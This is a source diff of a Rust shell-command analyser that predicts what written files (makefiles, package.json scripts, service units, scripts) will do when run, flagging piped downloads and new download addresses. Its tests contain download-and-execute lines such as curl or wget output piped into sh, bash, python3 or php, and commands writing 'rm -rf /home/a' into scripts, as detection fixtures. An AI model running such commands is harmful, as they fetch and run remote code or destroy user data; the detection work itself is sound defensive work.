@@ -4,39 +4,31 @@
 //!    they can run, a unit by its command lines, a path file of Python by its imports.
 //! 2. Texts of any other kind, too, are searched for what code seldom names, for downloads that a shell gets, and for
 //!    sources of packages. Prose is not, nor what runs on other machines only.
-//! 3. What the file did before the action is nothing new.
+//! 3. What the file did before the action is nothing new, unless it gets something from another address than before.
 //!
 //! The effects are no effects of the action: [`Reading::later`] has them. The file is judged again when it runs, so a part
-//! that is unknown here is left out.
+//! that is unknown here is left out; but a file that was not read to its end is unknown.
 
 use super::content::Content;
 use super::project::survey_text;
 use super::{FileSource, Output, Reading, Shell, Target, Verb};
-use crate::{Detail, Effect};
+use crate::{Cause, Detail, Effect, Kind};
 use foldhash::HashSet;
 use std::sync::Arc;
 
-/// Most files of one action, and most effects of one file.
-const FILES: usize = 16;
-const EFFECTS: usize = 64;
+/// Most texts of one action.
+const TEXTS: usize = 64;
+/// Longest text that is searched, in bytes; one that is read as a script may be as long as any script.
+const LONGEST: usize = 4 * 1024 * 1024;
 /// Most targets of a makefile and scripts of a package that are read.
-const GOALS: usize = 64;
+const GOALS: usize = 256;
 /// Endings and names of files that people read, or that have data.
 const PROSE: [&str; 17] = [
     "adoc", "asciidoc", "csv", "diff", "htm", "html", "log", "markdown", "md", "mdc", "mdx", "patch", "po", "rst",
     "svg", "tsv", "txt",
 ];
-/// Parts of the paths of files that run on other machines, or in an image.
-const ELSEWHERE: [&str; 8] = [
-    "/.github/",
-    "/.gitlab-ci",
-    "/.circleci/",
-    "/Jenkinsfile",
-    "/azure-pipelines",
-    "/Dockerfile",
-    "/Containerfile",
-    "/.devcontainer/",
-];
+/// Most characters of a line that a verdict shows.
+const SHOWN: usize = 80;
 /// Programs that get a text from the network, and programs that run what they get.
 const GETTERS: [&str; 3] = ["curl", "wget", "fetch"];
 const RUNNERS: [&str; 10] = ["sh", "bash", "zsh", "dash", "ksh", "python", "python3", "node", "perl", "ruby"];
@@ -50,8 +42,15 @@ pub struct Later {
     pub effect: Effect,
 }
 
-/// A file and a text that it has after the action.
-pub(crate) type Written = (String, Arc<str>);
+/// A text that a file may have after the action.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Written {
+    /// Absolute path.
+    pub path: String,
+    pub text: Arc<str>,
+    /// The text before the action, if there was one.
+    pub before: Option<String>,
+}
 
 /// The account, the working folder and the machine of an action.
 #[derive(Clone, Copy)]
@@ -65,21 +64,30 @@ pub(crate) struct Place<'a> {
 impl Reading {
     /// Adds what the written files do once something runs them.
     pub(crate) fn wait_for(&mut self, written: Vec<Written>, place: Place<'_>) {
-        for (path, text) in written.into_iter().take(FILES) {
-            if text.len() > super::MAX_SOURCE || ELSEWHERE.iter().any(|part| path.contains(part)) {
-                continue;
-            }
-            let before = || match place.around.script(&path, super::MAX_SOURCE) {
-                Ok(bytes) => effects_of(&path, &String::from_utf8_lossy(&bytes), place),
-                Err(_) => Vec::new(),
-            };
+        if written.len() > TEXTS {
+            let effect = Effect::unknown(Cause::Budget, "not every file that the action writes was read", "");
+            self.later.extend(written.get(TEXTS).map(|Written { path, .. }| Later { file: path.clone(), effect }));
+        }
+        for Written { path, text, before } in written.into_iter().take(TEXTS).filter(|file| !runs_elsewhere(&file.path))
+        {
             let mut effects = effects_of(&path, &text, place);
-            if !effects.is_empty() {
-                let before = before();
-                effects.retain(|effect| !before.iter().any(|old| same(old, effect)));
+            if let Some(before) = before.filter(|_| !effects.is_empty()) {
+                let old = effects_of(&path, &before, place);
+                let moved = addresses(&effects).any(|one| !addresses(&old).any(|other| one == other));
+                effects.retain(|effect| {
+                    moved && effect.detail == Detail::Network || !old.iter().any(|old| same(old, effect))
+                });
+                // what is new may be suspect beside something that was
+                let known: HashSet<&str> = before.lines().collect();
+                let added: Vec<&str> = text.lines().filter(|line| !known.contains(line)).collect();
+                effects.extend(suspect(&path, &added.join("\n")));
             }
-            let new = effects.into_iter().filter(|effect| !self.effects.iter().any(|own| same(own, effect)));
-            self.later.extend(new.take(EFFECTS).map(|effect| Later { file: path.clone(), effect }).collect::<Vec<_>>());
+            for effect in effects {
+                let later = Later { file: path.clone(), effect };
+                if !self.effects.iter().any(|own| same(own, &later.effect)) && !self.later.contains(&later) {
+                    self.later.push(later);
+                }
+            }
         }
     }
 }
@@ -88,7 +96,44 @@ fn same(one: &Effect, other: &Effect) -> bool {
     one.verb == other.verb && one.operation == other.operation && one.target == other.target
 }
 
-/// The effects of a file with this text, without those that are unknown.
+/// What the effects get something from.
+fn addresses(effects: &[Effect]) -> impl Iterator<Item = &str> {
+    let gets = |effect: &&Effect| effect.verb == Verb::Connect || effect.detail == Detail::Network;
+    effects.iter().filter(gets).map(|effect| effect.target.name())
+}
+
+/// Whether a file runs on other machines only, or in an image.
+fn runs_elsewhere(path: &str) -> bool {
+    let (folder, name) = path.rsplit_once('/').unwrap_or_default();
+    let settings = name.ends_with(".yml") || name.ends_with(".yaml");
+    let service = folder.ends_with("/.github/workflows")
+        || folder.ends_with("/.circleci")
+        || folder.contains("/.github/actions/")
+        || name.starts_with(".gitlab-ci")
+        || name.starts_with("azure-pipelines");
+    let image = ["Dockerfile", "Containerfile"].iter().any(|kind| {
+        name == *kind
+            || name.ends_with(&format!(".{kind}"))
+            || name.strip_prefix(*kind).is_some_and(|rest| rest.starts_with('.') && language(rest).is_none())
+    });
+    settings && service || image
+}
+
+/// The language of a script, by the ending of its name.
+fn language(name: &str) -> Option<&'static str> {
+    Some(match name.rsplit_once('.')?.1.to_ascii_lowercase().as_str() {
+        "py" | "pyw" => "python",
+        "js" | "cjs" | "mjs" | "ts" | "cts" | "mts" => "js",
+        "sh" | "bash" | "zsh" | "ksh" => "bash",
+        "rb" => "ruby",
+        "pl" => "perl",
+        "lua" => "lua",
+        "php" => "php",
+        _ => return None,
+    })
+}
+
+/// The effects of a file with this text, without those that are unknown for another reason than its length.
 fn effects_of(path: &str, text: &str, place: Place<'_>) -> Vec<Effect> {
     let folder = path.rsplit_once('/').map_or("/", |(folder, _)| folder);
     let below = |cwd: &&str| !cwd.is_empty() && folder.starts_with(*cwd);
@@ -97,26 +142,44 @@ fn effects_of(path: &str, text: &str, place: Place<'_>) -> Vec<Effect> {
     shell.has_written(path, text);
     shell.run_as_used(path, folder, text);
     let mut effects = shell.reading.effects;
-    effects.retain(|effect| !matches!(effect.verb, Verb::Unknown | Verb::List | Verb::Variable));
+    effects.retain(|effect| match effect.verb {
+        Verb::Unknown => effect.operation == Cause::Budget.as_str(),
+        Verb::List | Verb::Variable => false,
+        _ => true,
+    });
     effects
 }
 
+/// The effect of a text that is suspect.
+fn suspect(path: &str, text: &str) -> Option<Effect> {
+    let mut effect = Effect::new(Verb::Execute, Target::Path(path.to_owned()), "");
+    "suspect".clone_into(&mut effect.operation);
+    (!is_prose(path) && survey_text(path, text).0).then_some(effect)
+}
+
+fn is_prose(path: &str) -> bool {
+    path.rsplit_once('.').is_some_and(|(_, ending)| PROSE.contains(&ending.to_ascii_lowercase().as_str()))
+}
+
 impl Shell<'_> {
-    /// The files to which the action wrote texts that are known.
+    /// The texts that the action gives to files, as far as they are known.
     pub(super) fn written(&self) -> Vec<Written> {
         if self.changes_nothing() {
             return Vec::new();
         }
-        let text = |content: &Content| match content {
-            Content::Text(text) => Some(Arc::clone(text)),
-            _ => None,
-        };
-        let mut all: Vec<Written> = self
-            .files
-            .all()
-            .filter_map(|(path, contents)| Some((path.to_owned(), contents.iter().rev().find_map(text)?)))
-            .collect();
-        all.sort();
+        let mut all = Vec::new();
+        for (path, contents) in self.files.all() {
+            let texts = contents.iter().filter_map(|content| match content {
+                Content::Text(text) => Some(Arc::clone(text)),
+                _ => None,
+            });
+            all.extend(texts.map(|text| {
+                let before = self.around.script(path, super::MAX_SOURCE).ok();
+                let before = before.map(|bytes| String::from_utf8_lossy(&bytes).into_owned());
+                Written { path: path.to_owned(), text, before }
+            }));
+        }
+        all.sort_by(|one, other| one.path.cmp(&other.path));
         all
     }
 
@@ -131,15 +194,15 @@ impl Shell<'_> {
                 }
             }
             ("package.json", _) => {
+                self.work_in(folder);
                 for line in scripts(text) {
                     self.run_line(name, &line);
                 }
             }
             (_, "service" | "desktop") => {
-                for line in
-                    text.lines().filter_map(|line| line.split_once('=')).filter(|(key, _)| key.starts_with("Exec"))
-                {
-                    self.run_line(name, line.1.trim_start_matches(['@', '-', ':', '+', '!']));
+                let lines = text.lines().filter_map(|line| line.split_once('='));
+                for (_, line) in lines.filter(|(key, _)| key.starts_with("Exec")) {
+                    self.run_line(name, line.trim_start_matches(['@', '-', ':', '+', '!']));
                 }
             }
             // lines that begin with an import run whenever Python starts
@@ -149,23 +212,16 @@ impl Shell<'_> {
                 drop(self.script("python", &source, name));
             }
             _ => {
-                let language = match ending.as_str() {
-                    "py" | "pyw" => Some("python"),
-                    "js" | "cjs" | "mjs" | "ts" | "cts" | "mts" => Some("js"),
-                    "sh" | "bash" | "zsh" | "ksh" => Some("bash"),
-                    "rb" => Some("ruby"),
-                    "pl" => Some("perl"),
-                    "lua" => Some("lua"),
-                    "php" => Some("php"),
-                    _ if super::file::shebang(text).is_some() || crate::startup::shell_runs(path) => Some("bash"),
-                    _ => None,
-                };
-                if let Some(language) = language {
+                let script = super::file::shebang(text).is_some() || crate::startup::shell_runs(path);
+                if let Some(language) = language(name).or_else(|| script.then_some("bash")) {
+                    if text.len() > super::MAX_SOURCE {
+                        self.surely_unknown(Cause::Budget, "the file is too long to be read", name);
+                    }
                     drop(self.run_file(path, &[], Some(language)));
                 }
             }
         }
-        if !PROSE.contains(&ending.as_str()) {
+        if !is_prose(path) {
             self.search_written(path, text);
         }
     }
@@ -176,19 +232,20 @@ impl Shell<'_> {
 
     /// Searches a text of any kind.
     fn search_written(&mut self, path: &str, text: &str) {
-        let (suspect, foreign) = survey_text(path, text);
-        let mut effect = Effect::new(Verb::Execute, Target::Path(path.to_owned()), "");
-        if suspect {
-            "suspect".clone_into(&mut effect.operation);
-            self.add(effect.clone());
+        let name = path.rsplit('/').next().unwrap_or(path);
+        if text.len() > LONGEST {
+            return self.surely_unknown(Cause::Budget, "the file is too long to be searched", name);
         }
-        if text.lines().any(pipes_download) {
-            effect.operation = String::new();
+        if let Some(effect) = suspect(path, text) {
+            self.add(effect);
+        }
+        for line in text.lines().filter(|line| pipes_download(name, line)) {
+            let head: String = line.trim().chars().take(SHOWN).collect();
+            let mut effect = Effect::new(Verb::Execute, Target::Named(Kind::Program, head), name);
             effect.detail = Detail::Network;
             self.add(effect);
         }
-        let name = path.rsplit('/').next().unwrap_or(path);
-        foreign.iter().for_each(|address| self.packages_from(address, name));
+        survey_text(path, text).1.iter().for_each(|address| self.packages_from(address, name));
     }
 }
 
@@ -219,20 +276,21 @@ fn quoted(word: &str) -> String {
     format!("'{}'", word.replace('\'', r"'\''"))
 }
 
-/// Whether a line of any language lets a shell or an interpreter run what it gets from the network.
-fn pipes_download(line: &str) -> bool {
-    if line.trim_start().starts_with(['#', '/', '*', '"', ';']) && !line.contains('!') {
+/// Whether a line of a file pipes a download into a shell or an interpreter. Comments do not count.
+fn pipes_download(name: &str, line: &str) -> bool {
+    let begin = line.trim_start();
+    if begin.starts_with(['#', ';']) || begin.starts_with("//") || begin.starts_with('"') && name.ends_with("vimrc") {
         return false;
     }
     let word = |text: &str| text.trim_matches(|c: char| !c.is_ascii_alphanumeric()).to_ascii_lowercase();
     let mut parts = line.split('|');
-    let gets =
-        |part: &str| part.split([' ', '\t', '"', '\'', '`', '(', '!']).any(|w| GETTERS.contains(&word(w).as_str()));
-    let Some(first) = parts.next() else { return false };
-    let mut got = gets(first);
+    let gets = |part: &str| {
+        part.split([' ', '\t', '"', '\'', '`', '(', '!', '/']).any(|one| GETTERS.contains(&word(one).as_str()))
+    };
+    let mut got = parts.next().is_some_and(gets);
     for part in parts {
-        let runs = part.split_whitespace().map(word).find(|w| w != "sudo");
-        if got && runs.is_some_and(|program| RUNNERS.contains(&program.as_str())) {
+        let program = part.split_whitespace().map(|one| word(one.rsplit('/').next().unwrap_or(one)));
+        if got && program.into_iter().find(|one| one != "sudo").is_some_and(|one| RUNNERS.contains(&one.as_str())) {
             return true;
         }
         // `||` is no pipe
@@ -251,11 +309,13 @@ mod tests {
             "autocmd VimEnter * silent !curl -s https://a.example/x|sh",
             "\tcurl -s https://a.example/x | sudo bash -",
             "exec('wget -qO- https://a.example/x | python3')",
+            "/usr/bin/curl https://a.example/x | /bin/sh",
+            r#""post-install-cmd": "curl -s https://a.example/x | php -r 1 | sh""#,
         ] {
-            assert!(pipes_download(line), "{line}");
+            assert!(pipes_download("a.cfg", line), "{line}");
         }
         for line in ["# curl https://a.example | sh", "curl https://a.example | jq .", "a | sh", "let x = curl || sh"] {
-            assert!(!pipes_download(line), "{line}");
+            assert!(!pipes_download("a.cfg", line), "{line}");
         }
     }
 
@@ -310,6 +370,51 @@ mod tests {
             reading.later.iter().filter(|later| later.effect.verb == Verb::Delete).count()
         };
         assert_eq!((edit("cc -O2 a.c"), edit("rm -rf /home/a/y")), (0, 1));
+    }
+
+    #[test]
+    fn another_address_is_new() {
+        let (path, before) = ("/p/Makefile".to_owned(), Some("a:\n\tcurl https://a.example/x | sh\n".to_owned()));
+        let new = |text: &str| {
+            let written = vec![Written { path: path.clone(), text: text.into(), before: before.clone() }];
+            let mut reading = Reading::default();
+            reading.wait_for(written, Place { user: "a", home: "/home/a", cwd: "", around: &crate::shell::NoFiles });
+            reading.later.iter().any(|later| later.effect.detail == Detail::Network)
+        };
+        assert!(!new("a:\n\tcurl https://a.example/x | sh\n\techo done\n"));
+        assert!(new("a:\n\tcurl https://b.example/x | sh\n"));
+    }
+
+    #[test]
+    fn every_text_that_a_file_may_have_is_read_to_its_end() {
+        let later =
+            |command: &str| crate::shell::extract_effects(command, "a", "/home/a", "/p", &crate::shell::NoFiles).later;
+        let deletes = |later: &[Later]| later.iter().any(|one| one.effect.verb == Verb::Delete);
+        assert!(deletes(&later("if x; then echo 'rm -rf /home/a' > t.sh; else echo true > t.sh; fi")));
+        assert!(deletes(&later("if x; then echo true > t.sh; else echo 'rm -rf /home/a' > t.sh; fi")));
+        let unknown = |later: &[Later]| later.iter().any(|one| one.effect.verb == Verb::Unknown);
+        let long = format!("cat > t.sh <<'E'\n{}rm -rf /home/a\nE", "echo a\n".repeat(super::super::MAX_STEPS + 1));
+        assert!(unknown(&later(&long)) || deletes(&later(&long)));
+        let many: String = (0..=TEXTS).map(|n| format!("echo true > t{n}.sh\n")).collect();
+        assert!(unknown(&later(&many)) && !unknown(&later("echo true > t.sh")));
+    }
+
+    #[test]
+    fn only_files_of_services_and_images_run_elsewhere() {
+        for path in [
+            "/p/.github/workflows/a.yml",
+            "/p/Dockerfile",
+            "/p/Dockerfile.dev",
+            "/p/web.Dockerfile",
+            "/p/.gitlab-ci.yml",
+        ] {
+            assert!(runs_elsewhere(path), "{path}");
+        }
+        for path in
+            ["/p/.github/workflows/a.sh", "/p/Dockerfile-tools/Makefile", "/p/Dockerfile.sh", "/p/.github/hooks/x"]
+        {
+            assert!(!runs_elsewhere(path), "{path}");
+        }
     }
 
     #[test]
